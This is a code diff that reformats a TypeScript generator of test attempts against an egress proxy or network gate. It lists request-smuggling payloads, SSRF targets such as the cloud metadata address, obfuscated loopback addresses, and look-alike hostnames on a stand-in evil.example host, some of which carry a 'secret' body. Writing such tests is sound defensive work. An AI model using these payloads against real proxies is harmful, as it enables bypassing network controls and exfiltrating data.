@@ -51,7 +51,13 @@ function notations(ip: string): string[] {
   ];
 }
 
-const UNRULED = ['secret-4711.evil.example', 'metadata.google.internal', 'host.docker.internal', 'localhost', 'xn--e1afmkfd.example'];
+const UNRULED = [
+  'secret-4711.evil.example',
+  'metadata.google.internal',
+  'host.docker.internal',
+  'localhost',
+  'xn--e1afmkfd.example',
+];
 
 /** Names and ports that are like an allowed one, and are not it. */
 function lookAlikes({ allowed, ports }: Place): string[] {
@@ -65,9 +71,25 @@ function lookAlikes({ allowed, ports }: Place): string[] {
     `evil.example/${host}`,
     `${host}\\.evil.example`,
   ];
-  const bent = [`${host}%00.evil.example`, `${host}\t.evil.example`, `evil.example?${host}`, `[${host}]`, `${host}:${port}:evil.example`, `*.${host}`, '*', ''];
+  const bent = [
+    `${host}%00.evil.example`,
+    `${host}\t.evil.example`,
+    `evil.example?${host}`,
+    `[${host}]`,
+    `${host}:${port}:evil.example`,
+    `*.${host}`,
+    '*',
+    '',
+  ];
   const elsewhere = [ports.everywhere, ports.loopback, 0, 65_536, 443, 80].map((other) => `${host}:${other}`);
-  return [...[...near, ...bent].map((name) => `${name}:${port}`), ...elsewhere, `${host}:${port}0`, `${host}: ${port}1`, `${host}:-1`, host];
+  return [
+    ...[...near, ...bent].map((name) => `${name}:${port}`),
+    ...elsewhere,
+    `${host}:${port}0`,
+    `${host}: ${port}1`,
+    `${host}:-1`,
+    host,
+  ];
 }
 
 /** CONNECT to names. */
@@ -78,7 +100,10 @@ export function names(place: Place): Attempt[] {
     {
       what: said('CONNECT', target),
       via: 'egress',
-      send: [head(`CONNECT ${target} HTTP/1.1`, `Host: ${place.allowed.tunnel}`), head(`GET ${target} HTTP/1.1`, `Host: ${target}`)],
+      send: [
+        head(`CONNECT ${target} HTTP/1.1`, `Host: ${place.allowed.tunnel}`),
+        head(`GET ${target} HTTP/1.1`, `Host: ${target}`),
+      ],
     },
   ]);
 }
@@ -86,7 +111,18 @@ export function names(place: Place): Attempt[] {
 /** CONNECT to addresses. */
 export function addresses({ public: open, loopback, ports }: Place): Attempt[] {
   const hosts = [open, loopback, '0.0.0.0', '169.254.169.254'].flatMap(notations);
-  const others = ['[::1]', '[::]', '[fe80::1]', '[fd00:ec2::254]', '[::ffff:0:0]', '0', '127.1', '0x7f.1', '017700000001', '[::1%25lo]'];
+  const others = [
+    '[::1]',
+    '[::]',
+    '[fe80::1]',
+    '[fd00:ec2::254]',
+    '[::ffff:0:0]',
+    '0',
+    '127.1',
+    '0x7f.1',
+    '017700000001',
+    '[::1%25lo]',
+  ];
   return both([...hosts, ...others], [ports.everywhere, ports.loopback]).map(([host, port]) => ({
     what: said('CONNECT', `${host}:${port}`),
     via: 'egress',
@@ -101,17 +137,29 @@ export function plain({ public: open, loopback, ports, allowed }: Place): Attemp
   const ips = [open, loopback].flatMap((ip) => notations(ip).map((host) => `${host}:${ports.everywhere}`));
   const targets = [...hosts, ...ips, `[::1]:${ports.loopback}`, `localhost:${ports.loopback}`];
   const get = targets.map((target) => head(`GET http://${target}/secret HTTP/1.1`, `Host: ${allowed.plain}`));
-  const post = targets.map((target) => `${head(`POST http://${target}/ HTTP/1.1`, `Host: ${target}`, 'Content-Length: 6', 'Expect: 100-continue')}secret`);
+  const post = targets.map(
+    (target) =>
+      `${head(`POST http://${target}/ HTTP/1.1`, `Host: ${target}`, 'Content-Length: 6', 'Expect: 100-continue')}secret`,
+  );
   const other = ['https', 'ftp', 'ws', 'file', 'gopher', 'HTTP', ''].map((scheme) =>
     head(`GET ${scheme}://evil.example:${ports.everywhere}/ HTTP/1.1`, `Host: ${allowed.plain}`),
   );
-  return [...get, ...post, ...other].map((request) => ({ what: said('plain', request), via: 'egress', send: [request] }));
+  return [...get, ...post, ...other].map((request) => ({
+    what: said('plain', request),
+    via: 'egress',
+    send: [request],
+  }));
 }
 
 /** Requests that two readers could understand in two ways, and what follows an allowed one on its connection. */
 export function smuggled({ public: open, loopback, ports, allowed }: Place): Attempt[] {
   const ok = `http://${allowed.plain}${MARK}`;
-  const targets = [`evil.example:${ports.everywhere}`, `${open}:${ports.everywhere}`, `${loopback}:${ports.loopback}`, `localhost:${ports.everywhere}`];
+  const targets = [
+    `evil.example:${ports.everywhere}`,
+    `${open}:${ports.everywhere}`,
+    `${loopback}:${ports.loopback}`,
+    `localhost:${ports.everywhere}`,
+  ];
   const inner = (target: string) => [
     head(`GET http://${target}/smuggled HTTP/1.1`, `Host: ${target}`),
     head(`CONNECT ${target} HTTP/1.1`, `Host: ${target}`),
@@ -122,16 +170,28 @@ export function smuggled({ public: open, loopback, ports, allowed }: Place): Att
     [head(`GET ${ok}/1 HTTP/1.1`, `Host: ${allowed.plain}`, 'Connection: keep-alive'), hidden],
     [`${head(`GET ${ok}/2 HTTP/1.1`, `Host: ${allowed.plain}`)}${hidden}`],
     // two lengths, and lengths that are none
-    [`${head(`POST ${ok}/3 HTTP/1.1`, `Host: ${allowed.plain}`, 'Content-Length: 5', 'Transfer-Encoding: chunked')}0${CRLF}${CRLF}${hidden}`],
-    [`${head(`POST ${ok}/4 HTTP/1.1`, `Host: ${allowed.plain}`, 'Content-Length: 0', `Content-Length: ${hidden.length}`)}${hidden}`],
-    [`${head(`POST ${ok}/5 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: chunked')}0;x=${CRLF}${CRLF}${hidden}`],
-    [`${head(`POST ${ok}/6 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: xchunked')}0${CRLF}${CRLF}${hidden}`],
-    [`${head(`POST ${ok}/7 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: chunked')}ffffffffffffffff1${CRLF}${hidden}`],
+    [
+      `${head(`POST ${ok}/3 HTTP/1.1`, `Host: ${allowed.plain}`, 'Content-Length: 5', 'Transfer-Encoding: chunked')}0${CRLF}${CRLF}${hidden}`,
+    ],
+    [
+      `${head(`POST ${ok}/4 HTTP/1.1`, `Host: ${allowed.plain}`, 'Content-Length: 0', `Content-Length: ${hidden.length}`)}${hidden}`,
+    ],
+    [
+      `${head(`POST ${ok}/5 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: chunked')}0;x=${CRLF}${CRLF}${hidden}`,
+    ],
+    [
+      `${head(`POST ${ok}/6 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: xchunked')}0${CRLF}${CRLF}${hidden}`,
+    ],
+    [
+      `${head(`POST ${ok}/7 HTTP/1.1`, `Host: ${allowed.plain}`, 'Transfer-Encoding: chunked')}ffffffffffffffff1${CRLF}${hidden}`,
+    ],
     [`${head(`POST ${ok}/8 HTTP/1.1`, `Host: ${allowed.plain}`, 'Content-Length: +0')}${hidden}`],
     // header lines within header lines
     [head(`GET ${ok}/9 HTTP/1.1`, `Host: ${allowed.plain}`, `X: y\n${hidden}`)],
     [head(`GET ${ok}/10 HTTP/1.1`, `Host: ${allowed.plain}`, ` ${hidden}`)],
-    [`${head(`GET ${ok}/11 HTTP/1.1`, `Host: ${allowed.plain}`, 'Connection: upgrade', 'Upgrade: websocket')}${hidden}`],
+    [
+      `${head(`GET ${ok}/11 HTTP/1.1`, `Host: ${allowed.plain}`, 'Connection: upgrade', 'Upgrade: websocket')}${hidden}`,
+    ],
     [`GET ${ok}/12 HTTP/1.1\nHost: ${allowed.plain}\n\n${hidden}`],
     // a refused one first
     [head('CONNECT evil.example:1 HTTP/1.1', 'Host: x'), hidden],
@@ -153,13 +213,26 @@ export function smuggled({ public: open, loopback, ports, allowed }: Place): Att
 
 /** What is no request to a proxy. */
 export function strange({ public: open, loopback, ports }: Place): Attempt[] {
-  const targets = [`evil.example:${ports.everywhere}`, `${open}:${ports.everywhere}`, `${loopback}:${ports.loopback}`, `localhost:${ports.everywhere}`];
+  const targets = [
+    `evil.example:${ports.everywhere}`,
+    `${open}:${ports.everywhere}`,
+    `${loopback}:${ports.loopback}`,
+    `localhost:${ports.everywhere}`,
+  ];
   const requests = targets.flatMap((target) => [
-    ...['GET', 'POST', 'OPTIONS', 'TRACE', 'PROPFIND', 'BREW'].map((method) => head(`${method} / HTTP/1.1`, `Host: ${target}`)),
+    ...['GET', 'POST', 'OPTIONS', 'TRACE', 'PROPFIND', 'BREW'].map((method) =>
+      head(`${method} / HTTP/1.1`, `Host: ${target}`),
+    ),
     ...['GET', 'HEAD', 'DELETE', 'TRACE'].map((method) => head(`${method} //${target}/ HTTP/1.1`, `Host: ${target}`)),
     head('OPTIONS * HTTP/1.1', `Host: ${target}`),
     head('GET / HTTP/1.1', `Host: ${target}`, 'Connection: upgrade', 'Upgrade: websocket'),
-    head('GET / HTTP/1.1', `Host: ${target}`, 'Connection: upgrade, http2-settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk'),
+    head(
+      'GET / HTTP/1.1',
+      `Host: ${target}`,
+      'Connection: upgrade, http2-settings',
+      'Upgrade: h2c',
+      'HTTP2-Settings: AAMAAABk',
+    ),
     head(`GET ${target} HTTP/1.0`),
     `GET http://${target}/\r\n`,
     `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${target}`,
@@ -200,13 +273,40 @@ export function throughTheModel({ public: open, loopback, ports }: Place): Attem
 
 /** Sockets and names past the gate. */
 export function direct(hosts: readonly string[], { ports }: Place): Attempt[] {
-  const tcp = both(hosts, [ports.everywhere, ports.loopback, 22, 53, 80, 443, 2375, 3306, 5432, 6379, 7233, 7878, 8765]);
+  const tcp = both(hosts, [
+    ports.everywhere,
+    ports.loopback,
+    22,
+    53,
+    80,
+    443,
+    2375,
+    3306,
+    5432,
+    6379,
+    7233,
+    7878,
+    8765,
+  ]);
   const udp = both(hosts, [ports.udp, 53, 123]);
-  const names = [...UNRULED.filter((name) => name !== 'localhost'), 'example.com', 'gateway.docker.internal', 'host.containers.internal', 'deb.example.com'];
+  const names = [
+    ...UNRULED.filter((name) => name !== 'localhost'),
+    'example.com',
+    'gateway.docker.internal',
+    'host.containers.internal',
+    'deb.example.com',
+  ];
   return [
     ...tcp.map(([host, port]): Attempt => ({ what: `TCP ${host}:${port}`, via: 'tcp', host, port, send: ['escape'] })),
     ...udp.map(([host, port]): Attempt => ({ what: `UDP ${host}:${port}`, via: 'udp', host, port })),
-    ...hosts.map((host): Attempt => ({ what: `DNS at ${host}`, via: 'nameserver', host: host.includes(':') ? `[${host}]` : host, port: ports.udp })),
+    ...hosts.map(
+      (host): Attempt => ({
+        what: `DNS at ${host}`,
+        via: 'nameserver',
+        host: host.includes(':') ? `[${host}]` : host,
+        port: ports.udp,
+      }),
+    ),
     ...names.map((host): Attempt => ({ what: `name ${host}`, via: 'resolver', host })),
   ];
 }
